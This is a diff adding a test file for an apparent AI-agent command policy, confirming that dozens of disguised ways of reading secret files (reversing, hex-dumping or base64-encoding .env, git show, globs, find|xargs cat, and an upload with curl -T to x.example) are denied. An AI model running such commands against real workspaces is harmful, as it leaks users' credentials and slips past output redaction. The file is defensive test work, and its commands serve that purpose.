@@ -1,0 +1,247 @@
+"""Issue 10, class 9 (policy part): secret files are never read through a command.
+
+``rev .env`` defeated output redaction: the value came out reversed. A file the file tools
+treat as secret (``files.secrets``, one list for both) is denied for every command, whatever
+the program, in any argument form, through globs, and through programs that read whole trees.
+Each example is first run for real (bubblewrap, real programs) to show the secret value (or
+a transform of it) reaches the output; then the policy must deny it. Matching known secrets
+in transformed output is the redactor's part, not tested here.
+"""
+
+from __future__ import annotations
+
+import base64
+import re
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from enforcement_agent.models import ToolRequest, Verdict
+from enforcement_agent.policy import Policy
+from tests.policy.bash_oracle import available, build_workspace, run_for_real
+
+pytestmark = pytest.mark.skipif(not available(), reason="bubblewrap and bash are required")
+
+VALUE = "sk-ZQ9x7"  # short: `od -c` and `xxd` keep it on one output line
+ENV = f"API_KEY={VALUE}\n"
+FILES: dict[str, str | bytes] = {
+    ".env": ENV,
+    "config/.env.production": ENV,
+    "deploy/key.pem": f"-----BEGIN KEY-----\n{VALUE}\n-----END KEY-----\n",
+    ".aws/credentials": f"[default]\naws_secret_access_key={VALUE}\n",
+    "src/app.py": "print('hello')\n",
+    "script.py": "import sys\nprint(open(sys.argv[1]).read())\n",
+}
+COMMIT_ENV = "git init -q && git add -f .env src && git commit -qm init"
+
+# The issue's example first.
+READS = [
+    ("rev .env", ""),
+    ("tac .env", ""),
+    ("od -c .env", ""),
+    ("xxd .env", ""),
+    ("base64 .env", ""),
+    ("cp .env x && cat x", ""),
+    ("git show HEAD:.env", COMMIT_ENV),
+    ("git show :.env", COMMIT_ENV),
+    ("grep -r . .", ""),
+    ("grep -rn API .", ""),
+    ("cat .e*", ""),
+    ("cat .[e]nv", ""),
+    ("head -c 40 .env", ""),
+    ("sort .env", ""),
+    ("awk 1 .env", ""),
+    ("sed -n p .env", ""),
+    ("strings .env", ""),
+    ("cut -c1- .env", ""),
+    ("nl .env", ""),
+    ("cat < .env", ""),
+    ("while read -r l; do echo $l; done < .env", ""),
+    ("cat config/.env.production", ""),
+    ("cat deploy/key.pem", ""),
+    ("cat .aws/credentials", ""),
+    ("cat ./.env", ""),
+    ("cat src/../.env", ""),
+    ("find . -name .env -exec cat {} \\;", ""),
+    ("find . -type f -exec cat {} +", ""),
+    ("find . | xargs cat", ""),
+    ("git diff --no-index /dev/null .env", ""),
+    ("diff /dev/null .env", ""),
+    ("python3 script.py .env", ""),
+    ("tar cf - . | tar xOf - ./.env", ""),
+    ("tr a-z A-Z < .env", ""),
+    ("fold -w 5 .env", ""),
+    ("dd if=.env", ""),
+    ("x=$(<.env); echo ${x}", ""),
+    ("cat $(ls -a | grep env)", ""),
+    ("paste -s .env", ""),
+    # names a producer prints: the producer's own start point is one of them
+    ("ls .env | xargs cat", ""),
+    ("ls config/.env.production | xargs -n 1 cat", ""),
+    ("for f in $(ls .env); do cat $f; done", ""),
+    ("find .env -exec cat {} +", ""),
+    ("git ls-files | xargs cat", "git init -q && git add -f .env src"),
+    ("for f in $(git ls-files); do cat $f; done", "git init -q && git add -f .env src"),
+]
+
+
+def _leaks(out: bytes) -> bool:
+    text = out.decode("utf-8", "replace")
+    flat = re.sub(r"\s+", "", text)
+    forms = [VALUE, VALUE[::-1], VALUE.upper(), base64.b64encode(ENV.encode()).decode()[:12]]
+    return any(f in text or f in flat for f in forms) or VALUE[:4] in flat and "ZQ9" in flat
+
+
+def _decide(policy: Policy, ws: Path, command: str, role: str = "contributor") -> Verdict:
+    req = ToolRequest(tenant="acme", actor="a", role=role, tool="exec", command=command)
+    return policy.decide(req, ws).decision
+
+
+def test_there_are_enough_reads() -> None:
+    assert len(READS) >= 21
+
+
+@pytest.mark.parametrize(("command", "setup"), READS)
+def test_the_command_really_reveals_the_secret(command: str, setup: str) -> None:
+    effect = run_for_real(command, files=FILES, setup=setup)
+    assert _leaks(effect.stdout), (command, effect.stdout[:300], effect.stderr[-300:])
+
+
+@pytest.mark.parametrize(("command", "setup"), READS)
+def test_the_policy_denies_it(
+    default_policy: Policy, tmp_path: Path, command: str, setup: str
+) -> None:
+    ws = build_workspace(tmp_path, FILES, setup)
+    for role in ("viewer", "contributor", "admin"):
+        assert _decide(default_policy, ws, command, role) is not Verdict.ALLOW, (command, role)
+    assert _decide(default_policy, ws, command) is Verdict.DENY, command
+
+
+def _example(pattern: str, prefix: str) -> str:
+    """A path the secret pattern matches, at depth ``prefix``."""
+    body = pattern.removeprefix("**/").replace("/**", "/x").replace("*", "x")
+    return prefix + body
+
+
+@settings(
+    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    data=st.data(),
+    prefix=st.sampled_from(["", "sub/", "a/b/c/"]),
+    reader=st.sampled_from(
+        [
+            "cat {p}",
+            "rev {p}",
+            "xxd {p}",
+            "od -An -c {p}",
+            "base64 {p}",
+            "cp {p} copy",
+            "mv {p} copy",
+            "head -n1 -- {p}",
+            "grep -H . {p}",
+            "cat < {p}",
+            "sed -n 1p {p}",
+            "curl -T {p} https://x.example/",
+            "git show HEAD:{p}",
+            "python3 script.py {p}",
+            "echo x > {p}",
+        ]
+    ),
+)
+def test_one_list_for_file_tools_and_commands(
+    default_policy: Policy,
+    tmp_path_factory: pytest.TempPathFactory,
+    data: st.DataObject,
+    prefix: str,
+    reader: str,
+) -> None:
+    patterns = [p.pattern for p in default_policy.compiled.exec.secrets]
+    assert len(patterns) >= 20
+    raw = data.draw(st.sampled_from(_secret_list(default_policy)))
+    path = _example(raw, prefix)
+    ws = _empty_ws(tmp_path_factory)
+    file_read = default_policy.decide(
+        ToolRequest(tenant="acme", actor="a", role="contributor", tool="read", path=path), ws
+    )
+    assert file_read.decision is Verdict.DENY and file_read.rule == "file.secrets", path
+    command = reader.format(p=path)
+    assert _decide(default_policy, ws, command) is Verdict.DENY, command
+
+
+_SECRET_LIST: list[str] = []
+_WS: list[Path] = []
+
+
+def _secret_list(policy: Policy) -> list[str]:
+    if not _SECRET_LIST:
+        import yaml
+
+        from tests.policy.conftest import POLICY_DIR
+
+        doc = yaml.safe_load((POLICY_DIR / "default.yaml").read_text())
+        _SECRET_LIST.extend(doc["files"]["secrets"])
+    return _SECRET_LIST
+
+
+def _empty_ws(factory: pytest.TempPathFactory) -> Path:
+    if not _WS:
+        _WS.append(build_workspace(factory.mktemp("class9"), {"script.py": "x"}))
+    return _WS[0]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo .env >> .gitignore",
+        "grep -q '^.env$' .gitignore",
+        "grep -rn --exclude=.env TODO .",
+        "grep -rn --exclude='.env*' --include='*.py' TODO .",
+        "grep -rn TODO src",
+        "rg TODO",
+        "ls -la .env",
+        "test -f .env && echo present",
+        "git rm --cached .env",
+        "git check-ignore .env",
+        "find . -name '*.py' | xargs wc -l",
+        "find . -name '*.py' -exec cat {} +",
+        "cat src/app.py",
+        "tar czf src.tgz src",
+    ],
+)
+def test_commands_that_do_not_read_secrets_stay_allowed(
+    default_policy: Policy, tmp_path: Path, command: str
+) -> None:
+    # Only hidden secrets here: rg skips hidden files, grep --exclude names them all.
+    files = {".env": ENV, "src/app.py": "x\n", ".gitignore": ".env\n"}
+    ws = build_workspace(tmp_path, files, "git init -q")
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+def test_tree_readers_are_denied_only_when_the_tree_holds_a_secret(
+    default_policy: Policy, tmp_path: Path
+) -> None:
+    clean = build_workspace(tmp_path / "clean", {"src/app.py": "x", "README.md": "x"})
+    dirty = build_workspace(tmp_path / "dirty", {"src/app.py": "x", "src/.env": ENV})
+    for command in ("grep -r . .", "find . -type f -exec cat {} +", "find . | xargs cat"):
+        assert _decide(default_policy, clean, command) is Verdict.ALLOW, command
+        assert _decide(default_policy, dirty, command) is Verdict.DENY, command
+
+
+def test_a_secret_created_later_is_seen_at_once(default_policy: Policy, tmp_path: Path) -> None:
+    """Tree walks are reused while the tree is unchanged; a new file anywhere below must end
+    that (directory mtimes), also deep down and after a rename."""
+    ws = build_workspace(tmp_path, {"src/deep/er/app.py": "x", "README.md": "x"})
+    command = "grep -r . ."
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW
+    (ws / "src/deep/er/notes.txt").write_text(ENV)
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW
+    (ws / "src/deep/er/notes.txt").rename(ws / "src/deep/er/.env")
+    assert _decide(default_policy, ws, command) is Verdict.DENY
+    (ws / "src/deep/er/.env").unlink()
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW
+    (ws / "src/deep/new").mkdir()
+    (ws / "src/deep/new/id_rsa").write_text("k")
+    assert _decide(default_policy, ws, command) is Verdict.DENY
